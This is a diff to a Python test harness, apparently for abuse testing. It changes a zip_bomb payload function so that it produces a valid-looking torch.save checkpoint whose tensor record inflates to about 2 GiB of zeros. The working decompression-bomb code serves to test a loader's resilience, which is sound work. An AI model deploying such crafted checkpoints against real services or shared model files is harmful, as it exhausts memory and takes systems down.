@@ -85,18 +85,25 @@ class Probe:
 
 # ---- payloads ----------------------------------------------------------------------------------------
 def zip_bomb(declared: int = 2 * 2**30) -> bytes:
-    """A torch-format zip (~2 MB) whose one deflated entry expands to `declared` bytes of zeros."""
+    """A torch.save zip (~2 MB) of a small state dict whose tensor record is replaced by one deflated
+    entry expanding to `declared` bytes of zeros (torch's reader inflates a record whole)."""
     cache = Path(f"/tmp/lbdn-abuse-bomb-{declared}.zip")
     if cache.exists():
         return cache.read_bytes()
+    import torch
+
+    saved = io.BytesIO()
+    torch.save({"state_dict": {"w": torch.zeros(4)}}, saved)
     buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
-        z.writestr("archive/data.pkl", b"\x80\x02}q\x00.")  # an empty dict, as torch.save writes it
-        z.writestr("archive/version", b"3\n")
-        with z.open("archive/data/0", "w", force_zip64=True) as f:
-            chunk = bytes(2**20)
-            for _ in range(declared // len(chunk)):
-                f.write(chunk)
+    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        for info in src.infolist():
+            if info.filename.endswith("/data/0"):
+                with z.open(info.filename, "w", force_zip64=True) as f:
+                    chunk = bytes(2**20)
+                    for _ in range(declared // len(chunk)):
+                        f.write(chunk)
+            else:
+                z.writestr(info.filename, src.read(info))
     cache.write_bytes(buf.getvalue())
     return buf.getvalue()
 
